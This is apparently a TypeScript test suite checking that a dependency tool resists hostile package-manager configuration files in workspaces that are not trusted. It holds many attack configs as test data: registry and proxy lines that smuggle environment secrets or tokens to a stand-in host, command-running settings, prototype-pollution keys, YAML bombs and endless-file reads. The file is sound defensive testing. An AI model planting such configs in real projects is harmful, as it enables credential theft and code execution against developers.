/** What a workspace may try with its package managers' configuration files, and what comes of it. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { settingsPlaces } from "../../server/src/io/settings-places.ts";
import { Connection } from "../../server/src/io/connection.ts";
import { loadBun } from "../../server/src/io/registries/bun.ts";
import type { Load } from "../../server/src/io/registries/config.ts";
import { FileMemory } from "../../server/src/io/registries/file-memory.ts";
import { RegistryConfigs } from "../../server/src/io/registries/index.ts";
import { loadNpm } from "../../server/src/io/registries/npm.ts";
import { loadPnpm } from "../../server/src/io/registries/pnpm.ts";
import { loadYarnBerry } from "../../server/src/io/registries/yarn-berry.ts";
import { loadYarnClassic } from "../../server/src/io/registries/yarn-classic.ts";
import { json, startLoopback, type Loopback, type RecordedRequest } from "../fakes/loopback.ts";
import { startRegistry, type FakeRegistry } from "../fakes/registry.ts";
import { NEVER, World } from "./world.ts";

const USERS = "users-own-token";
const SECRET = "hush-hush";
const NAMES = ["leftpad", "@s/x"];

const MANAGERS = {
  npm: "npm@11.19.1",
  pnpm: "pnpm@11.28.10",
  "pnpm 9": "pnpm@9.15.9",
  yarn: "yarn@4.18.1",
  "yarn 1": "yarn@1.22.22",
  bun: "bun@1.4.4",
} as const;
type Manager = keyof typeof MANAGERS;
const FILES: Readonly<Record<Manager, string>> = {
  npm: ".npmrc",
  pnpm: "pnpm-workspace.yaml",
  "pnpm 9": ".npmrc",
  yarn: ".yarnrc.yml",
  "yarn 1": ".yarnrc",
  bun: "bunfig.toml",
};
const LOAD: Readonly<Record<Manager, Load>> = {
  npm: loadNpm,
  pnpm: loadPnpm,
  "pnpm 9": loadPnpm,
  yarn: loadYarnBerry,
  "yarn 1": loadYarnClassic,
  bun: loadBun,
};

let world: World;
/** The user's own registry, with a login. */
let good: FakeRegistry;
/** Whatever else is asked: a registry, or a proxy. */
let evil: Loopback<RecordedRequest>;

beforeEach(async () => {
  world = new World();
  good = await startRegistry();
  for (const name of NAMES) good.publish(name, "1.0.0", { at: "2024-01-01T00:00:00Z" });
  evil = await startLoopback(
    (request) => request,
    () => json(404, {}),
  );
  world.write("home/.npmrc", filled(`registry=GOOD\n//#good#/:_authToken=${USERS}\n`));
  world.write(
    "home/.yarnrc.yml",
    filled(
      `npmRegistryServer: "GOOD"\nnpmRegistries:\n  "//#good#":\n    npmAlwaysAuth: true\n    npmAuthToken: ${USERS}\n`,
    ),
  );
});

afterEach(async () => {
  await Promise.all([good.close(), evil.close()]);
  await world.remove();
});

function filled(text: string): string {
  return text
    .replaceAll("GOOD", good.url)
    .replaceAll("EVIL", `${evil.origin}/`)
    .replaceAll("#good#", new URL(good.url).host)
    .replaceAll("#evil#", new URL(evil.origin).host)
    .replaceAll("PROJECT", world.project);
}

function manage(manager: Manager): void {
  world.write("project/package.json", JSON.stringify({ packageManager: MANAGERS[manager] }));
}

/** Everything that Depwarden asks of a package, for an unscoped and a scoped name: what it knows of each, or why not. */
async function look(trusted: boolean, env: Readonly<Record<string, string>> = {}): Promise<readonly string[]> {
  const outcomes: string[] = [];
  const own = Object.fromEntries(Object.entries(env).map(([name, text]) => [name, filled(text)]));
  const ports = world.ports({
    trusted,
    // What is kept would be asked for no more.
    cacheDir: null,
    limits: { timeout: 2000, tries: 1 },
    env: { ...world.env, SECRET, NPM_TOKEN: SECRET, ...own },
  });
  for (const name of NAMES) {
    const registry = await ports.registry.resolve(name, world.projectUri);
    const facts = await ports.registry.packument({ name, registry }, "full", NEVER);
    outcomes.push(facts.known ? "known" : facts.code);
    const tarball = facts.known ? facts.value.distributions.get("1.0.0")?.tarball : null;
    if (typeof tarball === "string")
      await ports.registry.tarballModified({ name, registry, version: "1.0.0" }, tarball, NEVER);
    await ports.advisories.lookup([{ name, version: "1.0.0", registry }], NEVER);
  }
  return outcomes;
}

const toEvil = () => JSON.stringify(evil.requests);
const logins = () => [...new Set(good.requests.map(({ headers }) => headers.authorization))];
const askedGood = () => NAMES.filter((name) => good.requests.some((request) => request.name === name));

/** What comes of it in a trusted workspace. `evil`: asked, as the manager would, with nothing of the user's. */
type Trusted = "evil" | "good" | "nobody" | "nobody, good for others";

type Row = readonly [
  hope: string,
  manager: Manager,
  files: Readonly<Record<string, string>> | string,
  trusted: Trusted,
  env?: Readonly<Record<string, string>>,
  untrusted?: "good" | "nobody",
];

const ROWS: readonly Row[] = [
  ["another registry", "npm", "registry=EVIL", "evil"],
  ["another registry", "pnpm 9", "registry=EVIL", "evil"],
  ["another registry", "pnpm", "registries:\n  default: EVIL\n  '@s': EVIL", "evil"],
  ["another registry by address", "pnpm", 'registries:\n  "EVIL":\n    scopes: ["@", "@s"]', "evil"],
  ["another registry in .npmrc", "pnpm", { ".npmrc": "registry=EVIL" }, "evil"],
  ["another registry", "yarn", 'npmRegistryServer: "EVIL"\nnpmAlwaysAuth: true', "evil"],
  [
    "another registry for a scope",
    "yarn",
    'npmScopes:\n  s:\n    npmRegistryServer: "EVIL"\n    npmAlwaysAuth: true',
    "evil",
  ],
  ["another registry for a scope", "yarn 1", '"@s:registry" "EVIL"', "evil"],
  ["another registry", "bun", '[install]\nregistry = "EVIL"\n[install.scopes]\ns = "EVIL"', "evil"],
  ["another registry in .npmrc", "bun", { ".npmrc": "registry=EVIL\n@s:registry=EVIL" }, "evil"],

  ["a secret in the path", "npm", "registry=EVIL${SECRET}/", "nobody"],
  ["a secret in the path", "pnpm 9", "registry=EVIL${SECRET}/", "nobody"],
  ["a secret in the path", "pnpm", "registries:\n  default: EVIL${SECRET}/", "nobody"],
  ["a secret in the path", "pnpm", 'registries:\n  "EVIL${SECRET}/":\n    scopes: ["@"]', "nobody"],
  ["a secret in the path", "yarn", 'npmRegistryServer: "EVIL${SECRET}/"', "nobody"],
  ["a secret as a fallback's name", "yarn", 'npmRegistryServer: "EVIL${NOT_SET:-${SECRET}}/"', "evil"],
  ["a secret in the path", "bun", '[install]\nregistry = "EVIL$SECRET/"', "evil"],
  ["a secret in the query", "npm", "registry=EVIL?${SECRET}", "nobody"],
  ["a secret as user name", "npm", "registry=http://${SECRET}@#evil#/", "nobody"],
  ["a secret as password", "npm", "registry=http://u:${SECRET}@#evil#/", "nobody"],
  ["a secret as user name", "yarn", 'npmRegistryServer: "http://${SECRET}@#evil#/"', "nobody"],
  ["a secret as port", "npm", "registry=http://127.0.0.1:${SECRET}/", "nobody"],
  ["a secret as the only thing", "npm", "registry=${SECRET}", "nobody"],
  ["a secret as host", "npm", "registry=http://${SECRET}/", "nobody"],
  ["a secret as subdomain", "npm", "registry=http://${SECRET}.#evil#/", "nobody"],
  ["a secret in a scope's address", "npm", "@s:registry=EVIL${SECRET}/", "nobody, good for others"],
  [
    "a secret in a scope's address",
    "yarn",
    'npmScopes:\n  s:\n    npmRegistryServer: "EVIL${SECRET}/"',
    "nobody, good for others",
  ],
  ["a secret in a scope's address", "pnpm", { ".npmrc": "@s:registry=EVIL${SECRET}/" }, "nobody, good for others"],
  [
    "a secret after the user's own address",
    "yarn",
    'npmRegistryServer: "${PLACE}@#evil#/"',
    "nobody",
    { PLACE: "http://registry.example" },
  ],
  ["two addresses in one", "yarn", 'npmRegistryServer: "${PLACE}${SECRET}"', "nobody", { PLACE: "EVIL" }],
  ["a user name that is a host", "npm", "registry=http://${PLACE}@#evil#/", "nobody", { PLACE: "registry.example" }],
  ["a secret in a proxy's address", "npm", "proxy=EVIL${SECRET}", "good"],
  ["a secret as a proxy's user", "npm", "https-proxy=http://${SECRET}:x@#evil#", "good"],
  ["a secret as a proxy's user", "yarn", 'httpProxy: "http://${SECRET}:x@#evil#"', "good"],
  ["a secret as a proxy's user", "pnpm", "httpProxy: http://${SECRET}:x@#evil#", "good"],

  ["a token that names no host", "npm", "registry=EVIL\n_authToken=${NPM_TOKEN}\nalways-auth=true", "evil"],
  [
    "a token that names no host",
    "yarn 1",
    { ".npmrc": "@s:registry=EVIL\n_authToken=${NPM_TOKEN}\nalways-auth=true" },
    "evil",
  ],
  // A default registry with a login is taken for a private one: its names are kept back until the workspace is trusted.
  [
    "a token of the host, from the environment",
    "pnpm",
    { ".npmrc": "registry=EVIL\n//#evil#/:_authToken=${NPM_TOKEN}" },
    "evil",
    {},
    "nobody",
  ],
  [
    "the user's token by a path trick",
    "npm",
    "registry=EVIL\n//#good#/:registry=EVIL\n//#good#@#evil#/:_authToken=x",
    "evil",
  ],
  [
    "Yarn's token from the environment",
    "yarn",
    'npmRegistryServer: "EVIL"\nnpmAlwaysAuth: true',
    "evil",
    { YARN_NPM_AUTH_TOKEN: USERS, YARN_NPM_ALWAYS_AUTH: "true" },
    "nobody",
  ],
  [
    "Bun's token from the environment",
    "bun",
    '[install]\nregistry = "EVIL"',
    "evil",
    { BUN_CONFIG_TOKEN: USERS },
    "nobody",
  ],

  ["another user file", "npm", { ".npmrc": "userconfig=PROJECT/more", more: "registry=EVIL" }, "good"],
  ["another user file without end", "npm", "userconfig=/dev/zero", "good"],
  ["another global file", "npm", { ".npmrc": "globalconfig=PROJECT/more", more: "@s:registry=EVIL" }, "good"],
  ["another global folder", "npm", { ".npmrc": "prefix=PROJECT", "etc/npmrc": "@s:registry=EVIL" }, "good"],
  ["another user file", "yarn 1", { ".npmrc": "userconfig=PROJECT/more", more: "@s:registry=EVIL" }, "good"],

  ["certificates without end", "npm", "cafile=/dev/zero", "good"],
  ["certificates from anywhere", "npm", "cafile=../../../../../../etc/hostname", "good"],
  [
    "certificates without end",
    "yarn",
    "httpsCaFilePath: /dev/zero\nhttpsKeyFilePath: /dev/zero\nhttpsCertFilePath: /dev/random",
    "good",
  ],
  ["certificates without end", "bun", '[install]\ncafile = "/dev/zero"', "good"],
  ["certificates without end", "yarn 1", 'cafile "/dev/zero"', "good"],

  [
    "commands",
    "npm",
    "git=PROJECT/run.cjs\nscript-shell=PROJECT/run.cjs\nnode-options=--require PROJECT/run.cjs\n//#good#/:tokenHelper=PROJECT/run.cjs\nshell=PROJECT/run.cjs",
    "good",
  ],
  [
    "commands",
    "pnpm",
    {
      ".npmrc": "//#good#/:tokenHelper=PROJECT/run.cjs",
      "pnpm-workspace.yaml":
        "packages: []\npnpmfile: PROJECT/run.cjs\nscriptShell: PROJECT/run.cjs\nconfigDependencies:\n  x: 1.0.0",
      ".pnpmfile.cjs": "require('./run.cjs')",
    },
    "good",
  ],
  [
    "commands",
    "yarn",
    "yarnPath: PROJECT/run.cjs\nplugins:\n  - PROJECT/run.cjs\n  - {path: PROJECT/run.cjs, spec: EVIL}",
    "good",
  ],
  ["commands", "yarn 1", 'yarn-path "PROJECT/run.cjs"\n--install.use-yarnrc "PROJECT/run.cjs"', "good"],
  [
    "commands",
    "bun",
    'preload = ["PROJECT/run.cjs"]\n[install]\n[install.security]\nscanner = "PROJECT/run.cjs"\n[test]\npreload = "PROJECT/run.cjs"',
    "good",
  ],

  ["references that multiply", "yarn", bomb(), "nobody"],
  ["references that multiply", "pnpm", bomb(), "nobody"],
  [
    "keys into the prototype",
    "npm",
    "__proto__=x\n__proto__[registry]=EVIL\nconstructor=EVIL\n[__proto__]\nregistry=EVIL",
    "good",
  ],
  [
    "keys into the prototype",
    "pnpm",
    '__proto__:\n  registry: EVIL\nregistries:\n  __proto__:\n    default: EVIL\n    "@s": EVIL',
    "good",
  ],
  [
    "keys into the prototype",
    "yarn",
    "__proto__:\n  npmRegistryServer: EVIL\nnpmScopes:\n  __proto__:\n    npmRegistryServer: EVIL",
    "good",
  ],
  [
    "keys into the prototype",
    "bun",
    '[__proto__.install]\nregistry = "EVIL"\n[install.__proto__]\nregistry = "EVIL"\n[install.scopes.__proto__]\nurl = "EVIL"',
    "good",
  ],
  ["keys into the prototype", "yarn 1", '"__proto__" "x"\n"__proto__" "EVIL"\n"__proto__:registry" "EVIL"', "good"],
  ["a key that Yarn 1 cannot read", "yarn 1", '__proto__ "EVIL"', "nobody"],
  ["five million characters", "npm", "a=b\n".repeat(1_250_000), "nobody"],
  ["five million characters", "pnpm", "a: b\n".repeat(1_000_000), "nobody"],
  ["five million characters", "yarn", "a: b\n".repeat(1_000_000), "nobody"],
  ["five million characters", "yarn 1", 'a "b"\n'.repeat(850_000), "nobody"],
  ["five million characters", "bun", "a = 1\n".repeat(850_000), "nobody"],
  ["variables without end", "yarn", `npmRegistryServer: "EVIL${"${a".repeat(100_000)}"`, "nobody"],
  ["broken off", "yarn", 'npmScopes:\n  s:\n    npmRegistryServer: "GOOD', "nobody"],
  ["an address that no server takes", "npm", `registry=EVIL${"a/".repeat(200_000)}`, "nobody"],
  ["an address that no server takes", "bun", `[install]\nregistry = "EVIL${"a/".repeat(200_000)}"`, "nobody"],
  [
    "more patterns than are held against each host",
    "yarn",
    `npmRegistryServer: EVIL\nnetworkSettings:\n${Array.from({ length: 101 }, (_, at) => `  "*${at}": {httpProxy: EVIL}\n`).join("")}`,
    "nobody",
  ],
  [
    "a pattern that takes for ever",
    "yarn",
    `networkSettings:\n  "${"*a".repeat(400)}b": {httpProxy: EVIL}\n  "(a+)+$": {httpProxy: EVIL}`,
    "good",
  ],
];

const CASES = ROWS.map(
  ([hope, manager, files, trusted, env = {}, untrusted = "good"]) =>
    [hope, manager, files, trusted, env, untrusted] as const,
);

/** Nine times nine times nine… of the same text. */
function bomb(): string {
  const lines = ["a: &a [x, x, x, x, x, x, x, x, x]"];
  for (const [at, name] of ["b", "c", "d", "e", "f", "g", "h", "i"].entries())
    lines.push(`${name}: &${name} [${new Array(9).fill(`*${"abcdefgh".charAt(at)}`).join(", ")}]`);
  return `${lines.join("\n")}\nnpmScopes: *i\nregistries: *i`;
}

function lay(manager: Manager, files: Row[2]): void {
  manage(manager);
  const marker = join(world.folder, "it-ran");
  world.write(
    "project/run.cjs",
    `#!/usr/bin/env node\nrequire("node:fs").writeFileSync(${JSON.stringify(marker)}, "")\n`,
  );
  for (const [path, text] of Object.entries(typeof files === "string" ? { [FILES[manager]]: files } : files))
    world.write(`project/${path}`, filled(text));
}

describe("a workspace that is not trusted hopes for", () => {
  it.each(CASES)("%s (%s, %#)", async (_hope, manager, files, _trusted, env, untrusted) => {
    lay(manager, files);
    await look(false, env);
    expect(evil.requests).toEqual([]);
    expect(existsSync(join(world.folder, "it-ran"))).toBe(false);
    expect(JSON.stringify(good.requests)).not.toContain(SECRET);
    expect(JSON.stringify(world.warnings)).not.toMatch(new RegExp(`${SECRET}|${USERS}`));
    // The user's own configuration still holds.
    if (untrusted === "nobody") expect(good.requests).toEqual([]);
    else expect([askedGood()[0], logins()]).toEqual(["leftpad", [`Bearer ${USERS}`]]);
  });
});

describe("a trusted workspace hopes for", () => {
  it.each(CASES)("%s (%s, %#)", async (_hope, manager, files, trusted, env) => {
    lay(manager, files);
    const outcomes = await look(true, env);
    expect(toEvil()).not.toMatch(new RegExp(`${SECRET}|${USERS}|authorization`));
    expect(existsSync(join(world.folder, "it-ran"))).toBe(false);
    expect(JSON.stringify(world.warnings)).not.toMatch(new RegExp(`${SECRET}|${USERS}`));
    expect(evil.requests.length > 0).toBe(trusted === "evil");
    if (trusted === "good") expect([askedGood(), logins()]).toEqual([NAMES, [`Bearer ${USERS}`]]);
    if (trusted === "nobody") expect([good.requests, outcomes]).toEqual([[], ["refused", "refused"]]);
    if (trusted === "nobody, good for others")
      expect([askedGood(), outcomes]).toEqual([["leftpad"], ["known", "refused"]]);
  });
});

describe("a file that is none", () => {
  const path = (manager: Manager) => join(world.project, FILES[manager]);
  const KINDS: Readonly<Record<string, (path: string) => void>> = {
    "a FIFO": (at) => execFileSync("mkfifo", [at]),
    "a folder": (at) => mkdirSync(at),
    "a symbolic link to itself": (at) => symlinkSync(at, at),
    "a symbolic link to what has no end": (at) => symlinkSync("/dev/zero", at),
    "a gigabyte": (at) => {
      writeFileSync(at, "");
      truncateSync(at, 1024 ** 3);
    },
  };
  const CASES = (Object.keys(FILES) as Manager[]).flatMap((manager) =>
    Object.keys(KINDS).map((kind) => [manager, kind] as const),
  );

  it.each(CASES)("%s: %s is read by nobody, and holds nobody up", async (manager, kind) => {
    for (const trusted of [false, true]) {
      manage(manager);
      mkdirSync(dirname(path(manager)), { recursive: true });
      rmSync(path(manager), { force: true, recursive: true });
      KINDS[kind]?.(path(manager));
      good.clearRequests();
      await look(trusted);
      expect(evil.requests).toEqual([]);
      // npm, and those that read its file, pass over what the system does not let them read. The others stop there.
      const isPassedOver =
        FILES[manager] === ".npmrc"
          ? kind === "a folder" || kind === "a symbolic link to itself"
          : manager === "yarn 1" && kind === "a folder";
      expect(good.requests.length > 0).toBe(!trusted || isPassedOver);
    }
  });
});

describe("a proxy that the workspace chose", () => {
  const CASES: readonly (readonly [Manager, string])[] = [
    ["npm", "proxy=EVIL\n"],
    ["npm", "https-proxy=EVIL\n"],
    ["pnpm", "packages: []\nhttpProxy: EVIL\n"],
    ["yarn", 'httpProxy: "EVIL"\n'],
    ["yarn", 'networkSettings:\n  "127.*":\n    httpProxy: "EVIL"\n'],
    ["yarn 1", 'proxy "EVIL"\n'],
  ];

  it.each(CASES)("is not asked for anything until the workspace is trusted (%s, %#)", async (manager, text) => {
    lay(manager, text);
    await look(false);
    expect(evil.requests).toEqual([]);
    expect(logins()).toEqual([`Bearer ${USERS}`]);
  });

  it.each(CASES)("sees no login of the user's after that (%s, %#)", async (manager, text) => {
    lay(manager, text);
    await look(true);
    expect(evil.requests.map((request) => request.path)).toContain(`${good.url}leftpad`);
    expect(toEvil()).not.toMatch(new RegExp(`${USERS}|authorization`));
  });

  it.each([
    ["https", "https-proxy=EVIL", "https", `Bearer ${USERS}`],
    ["http", "https-proxy=EVIL", "http", null],
    ["https without checking certificates", "https-proxy=EVIL\nstrict-ssl=false", "https", null],
    ["https with a certificate authority of its own", "https-proxy=EVIL\nca=mine", "https", null],
    ["https without checking certificates, and no proxy", "strict-ssl=false", "https", `Bearer ${USERS}`],
  ])("has the user's login for the host pass through: %s", async (_what, text, scheme, authorization) => {
    world.write("home/.npmrc", `//inner.example/:_authToken=${USERS}\n`);
    world.write("project/.npmrc", filled(`registry=${scheme}://inner.example/\n${text}\n`));
    const { connection } = await configs().resolve("x", world.projectUri);
    expect(connection.to(`${scheme}://inner.example/x`).authorization).toBe(authorization);
  });

  it("sees a login that the workspace itself gives", async () => {
    world.write("home/.npmrc", "");
    world.write(
      "project/.npmrc",
      filled("registry=http://inner.example/\nproxy=EVIL\n//inner.example/:_authToken=projects\n"),
    );
    const { connection } = await configs().resolve("x", world.projectUri);
    expect(connection.to("http://inner.example/x").authorization).toBe("Bearer projects");
  });
});

function configs(env: NodeJS.ProcessEnv = {}, trusted = true): RegistryConfigs {
  return new RegistryConfigs({
    trusted,
    registry: null,
    env: { ...world.env, ...env },
    log: { info: () => undefined, warn: (message) => world.warnings.push(message) },
  });
}

describe("a client certificate of the user's", () => {
  it("is for the user's registries, not for one that the workspace names", async () => {
    world.write("home/.npmrc", 'registry=https://inner.example/\ncert="CERT"\nkey="KEY"\n');
    const own = await configs().resolve("x", pathToFileURL(join(world.folder, "elsewhere")).href);
    expect(own.connection.to("https://inner.example/x").tls).toMatchObject({ cert: "CERT", key: "KEY" });
    world.write("project/.npmrc", "registry=https://elsewhere.example/\n");
    const other = await configs().resolve("x", world.projectUri);
    expect(other.connection.to("https://elsewhere.example/x").tls).toMatchObject({ cert: null, key: null });
  });
});

describe("a variable of the environment in a trusted workspace's file", () => {
  it.each([
    ["npm", "registry=https://inner.example/\n//inner.example/:_authToken=${NPM_TOKEN}", "Bearer from-env"],
    ["pnpm 9", "registry=https://inner.example/\n//inner.example/:_authToken=${NPM_TOKEN}", "Bearer from-env"],
    [
      "yarn",
      "npmRegistryServer: https://inner.example/\nnpmAuthToken: ${NPM_TOKEN}\nnpmAlwaysAuth: true",
      "Bearer from-env",
    ],
    ["bun", '[install]\nregistry = { url = "https://inner.example/", token = "$NPM_TOKEN" }', "Bearer from-env"],
  ] as const)(
    "may be the login of the host that the file names, as the manager has it (%s)",
    async (manager, text, authorization) => {
      manage(manager);
      world.write(`project/${FILES[manager]}`, text);
      const { url, connection } = await configs({ NPM_TOKEN: "from-env" }).resolve("x", world.projectUri);
      expect([url, connection.to(`${url}x`).authorization]).toEqual(["https://inner.example/", authorization]);
      const held = await configs({ NPM_TOKEN: "from-env" }, false).resolve("x", world.projectUri);
      expect(held.refused === null && held.connection.to("https://inner.example/x").authorization !== null).toBe(false);
    },
  );

  it.each([
    ["npm", "registry=https://inner.example/\n//inner.example/:_authToken=${NOT_SET}"],
    ["pnpm", "registries:\n  default: https://inner.example/"],
    ["yarn", "npmRegistryServer: https://inner.example/\nnpmAuthToken: ${NOT_SET}"],
  ] as const)("that cannot be filled in leaves the registry a private one all the same (%s)", async (manager, text) => {
    manage(manager);
    world.write(`project/${FILES[manager]}`, text);
    if (manager === "pnpm") world.write("project/.npmrc", "//inner.example/:_authToken=${SECRET}");
    const { isPublic, connection } = await configs({ SECRET }).resolve("x", world.projectUri);
    expect([isPublic, connection.to("https://inner.example/x").authorization]).toEqual([false, null]);
  });

  it("may be the place itself", async () => {
    const env = { PLACE: "https://inner.example/npm", HOST: "inner.example:8443" };
    for (const [text, url] of [
      ["registry=${PLACE}", "https://inner.example/npm/"],
      ["registry=${PLACE}/more/", "https://inner.example/npm/more/"],
      ["registry=https://${HOST}/npm/", "https://inner.example:8443/npm/"],
      ["registry=https://${HOST}", "https://inner.example:8443/"],
    ] as const) {
      world.write("project/.npmrc", text);
      expect((await configs(env).resolve("x", world.projectUri)).url).toBe(url);
    }
  });
});

describe("names that a workspace calls private", () => {
  it.each([
    ["npm", ".npmrc", "@s:registry=https://inner.example/"],
    ["yarn", ".yarnrc.yml", "npmScopes:\n  s:\n    npmRegistryServer: https://inner.example/"],
    ["bun", "bunfig.toml", '[install.scopes]\ns = "https://inner.example/"'],
    ["pnpm", "pnpm-workspace.yaml", "registries:\n  '@s': https://inner.example/"],
  ] as const)("are asked for nowhere while it is not trusted (%s)", async (manager, file, text) => {
    manage(manager);
    world.write(`project/${file}`, text);
    expect(await look(false)).toEqual(["known", "refused"]);
    expect(askedGood()).toEqual(["leftpad"]);
  });

  it("are so too where a variable says it, which is not filled in", async () => {
    world.write("project/.npmrc", "@s:registry=${PLACE}");
    expect(await look(false, { PLACE: "GOOD" })).toEqual(["known", "refused"]);
  });

  it("are asked for where the user says", async () => {
    world.write("home/.npmrc", filled(`@s:registry=GOOD\n//#good#/:_authToken=${USERS}\n`));
    world.write("project/.npmrc", "@s:registry=https://inner.example/");
    expect((await configs({}, false).resolve("@s/x", world.projectUri)).url).toBe(good.url);
  });
});

describe("a registry that leads elsewhere", () => {
  it("takes neither a login nor a name along that is for it alone", async () => {
    good.fail("leftpad", { kind: "redirect", location: `${evil.origin}/leftpad` });
    await look(true);
    expect(evil.requests).toEqual([]);
  });

  it("with a tarball on another host has nobody ask there", async () => {
    good.publish("leftpad", "1.0.0", { at: "2024-01-01T00:00:00Z", tarball: `${evil.origin}/leftpad-1.0.0.tgz` });
    await look(true);
    expect(evil.requests).toEqual([]);
  });
});

describe("a registry's answer", () => {
  async function answered(text: string) {
    const registry = await startLoopback(
      (request) => request,
      () => ({
        status: 200,
        headers: { "content-type": "application/json" },
        body: Buffer.from(text),
        compressible: true,
      }),
    );
    try {
      world.write("home/.npmrc", `registry=${registry.origin}/\n`);
      const ports = world.ports({ limits: { tries: 1 } });
      const ref = await ports.registry.resolve("leftpad", world.projectUri);
      return await ports.registry.packument({ name: "leftpad", registry: ref }, "full", NEVER);
    } finally {
      await registry.close();
    }
  }

  it.each([
    ["lists", "[]"],
    ["maps", "{}"],
    ["lists in lists", "[[]]"],
    ["numbers", "1"],
  ])("of millions of %s is not taken in, and that is said", async (_what, value) => {
    const found = await answered(`{"name":"leftpad","x":[${`${value},`.repeat(3_000_000)}1]}`);
    expect(found).toMatchObject({
      known: false,
      code: "malformed",
      reason: expect.stringMatching(/^127\.0\.0\.1:\d+ answered with more than 3 million values$/) as string,
    });
  });

  it("as large as the largest honest ones is taken in, whatever its texts hold", async () => {
    const dependencies = Object.fromEntries(Array.from({ length: 190 }, (_, at) => [`dependency-${at}`, "^1.0.0"]));
    const versions = Object.fromEntries(
      Array.from({ length: 4000 }, (_, at) => {
        const version = `1.0.${at}`;
        const dist = { tarball: `https://registry.example/leftpad/-/leftpad-${version}.tgz` };
        return [version, { name: "leftpad", version, dependencies, dist }];
      }),
    );
    const readme = '"[{,\\'.repeat(1_000_000);
    const found = await answered(JSON.stringify({ name: "leftpad", versions, readme }));
    expect(found.known && found.value.facts.releases.size).toBe(4000);
  });
});

describe("a file that a workspace's setting names", () => {
  const AUTHORITIES: readonly (readonly [Manager, string])[] = [
    ["npm", "cafile=#file#"],
    ["pnpm 9", "cafile=#file#"],
    ["yarn", "httpsCaFilePath: #file#"],
    ["yarn 1", 'cafile "#file#"'],
    ["bun", '[install]\ncafile = "#file#"'],
  ];
  const CLIENTS: readonly (readonly [Manager, string])[] = [
    ["npm", "//inner.example/:certfile=#file#\n//inner.example/:keyfile=#file#"],
    ["pnpm 9", "//inner.example/:certfile=#file#\n//inner.example/:keyfile=#file#"],
    ["yarn", "httpsCertFilePath: #file#\nhttpsKeyFilePath: #file#"],
    ["yarn", 'networkSettings:\n  "inner.*":\n    httpsCertFilePath: #file#\n    httpsKeyFilePath: #file#'],
  ];
  const REGISTRY: Readonly<Record<Manager, string>> = {
    npm: "registry=https://inner.example/",
    pnpm: "",
    "pnpm 9": "registry=https://inner.example/",
    yarn: "npmRegistryServer: https://inner.example/",
    "yarn 1": 'registry "https://inner.example/"',
    bun: "",
  };

  async function connectionWith(manager: Manager, text: string, file: string) {
    manage(manager);
    world.write(`project/${FILES[manager]}`, `${REGISTRY[manager]}\n${text.replaceAll("#file#", file)}\n`);
    // Yarn 1 looks for the machine's own file there.
    return (await configs({ PREFIX: world.folder }).resolve("x", world.projectUri)).connection;
  }

  it.each(AUTHORITIES)("has its authorities used (%s, %s)", async (manager, text) => {
    const connection = await connectionWith(manager, text, world.write("authorities.pem", "AUTHORITIES"));
    expect(connection.to("https://inner.example/x").tls.ca?.join("")).toBe("AUTHORITIES");
  });

  it.each(process.platform === "linux" ? AUTHORITIES : [])(
    "and that the system makes up as it is read is not read to its end (%s, %s)",
    async (manager, text) => {
      const connection = await connectionWith(manager, text, "/proc/self/status");
      expect(connection.to("https://inner.example/x").tls.ca).toBeNull();
    },
  );

  it.each([...AUTHORITIES, ...CLIENTS])(
    "is not opened until the workspace is trusted (%s, %s)",
    async (manager, text) => {
      const file = world.write("project/own.pem", "CERTIFICATE");
      manage(manager);
      world.write(`project/${FILES[manager]}`, `${text.replaceAll("#file#", file)}\n`);
      const opened = async (trusted: boolean): Promise<boolean> => {
        const paths: string[] = [];
        const files = new (class extends FileMemory {
          override plain(path: string) {
            paths.push(path);
            return super.plain(path);
          }
        })();
        const machine = {
          env: world.env,
          home: join(world.folder, "home"),
          log: { info: () => undefined, warn: () => undefined },
          trusted,
          files,
          projectRoot: world.project,
          knownHosts: new Set<string>(),
          shaped: new Map<string, string>(),
          places: settingsPlaces(world.env),
        };
        const version = MANAGERS[manager].split("@")[1] ?? null;
        const own = { kind: "npm" as const, version: null };
        const project = { own: world.project, root: world.project, enclosing: null, manager: own };
        const config = await LOAD[manager](project, machine, version);
        const url = "https://inner.example/";
        const connection = new Connection({
          registry: url,
          options: config.options,
          credentials: () => config.credentials(url, null),
          readFile: (path) => files.text(path),
        });
        connection.to(`${url}x`);
        return paths.includes(file);
      };
      expect([await opened(false), await opened(true)]).toEqual([false, true]);
    },
  );

  it.each(CLIENTS)("is a client's only inside the project (%s, %#)", async (manager, text) => {
    const tlsWith = async (file: string) => {
      const connection = await connectionWith(manager, text, file);
      const { cert, key } = connection.to("https://inner.example/x").tls;
      return [cert, key, connection.withheldFrom("https://inner.example/x")];
    };
    const own = world.write("project/own.pem", "OWN");
    expect(await tlsWith(own)).toEqual(["OWN", "OWN", null]);
    const persons = world.write("home/persons.pem", "PERSONS");
    symlinkSync(persons, join(world.project, "link.pem"));
    symlinkSync(dirname(persons), join(world.project, "folder"));
    for (const file of [persons, "../home/persons.pem", "link.pem", "folder/persons.pem"]) {
      const name = file.includes("link") ? "link.pem" : "persons.pem";
      const why = `the client certificate in ${name} is not used, as a project's file names it and it is outside the project; put the line into your own configuration`;
      expect(await tlsWith(file)).toEqual([null, null, why]);
    }
  });

  it("may be the person's where the person's own file names it", async () => {
    const persons = world.write("home/persons.pem", "PERSONS");
    world.write("home/.npmrc", `//inner.example/:certfile=${persons}\n//inner.example/:keyfile=${persons}\n`);
    world.write("project/.npmrc", "registry=https://inner.example/\n");
    const { connection } = await configs().resolve("x", world.projectUri);
    expect(connection.to("https://inner.example/x").tls).toMatchObject({ cert: "PERSONS", key: "PERSONS" });
  });

  it("gives no client certificate out of a variable whose name is not one for registries", async () => {
    world.write("project/.npmrc", "registry=https://inner.example/\ncert=${CORP_CERT}\nkey=${CORP_KEY}\n");
    const env = { CORP_CERT: "CERT", CORP_KEY: "KEY" };
    const { connection } = await configs(env).resolve("x", world.projectUri);
    expect(connection.to("https://inner.example/x").tls).toMatchObject({ cert: null, key: null });
    expect(world.warnings.join("\n")).toContain("CORP_KEY is not sent to every registry");
  });
});
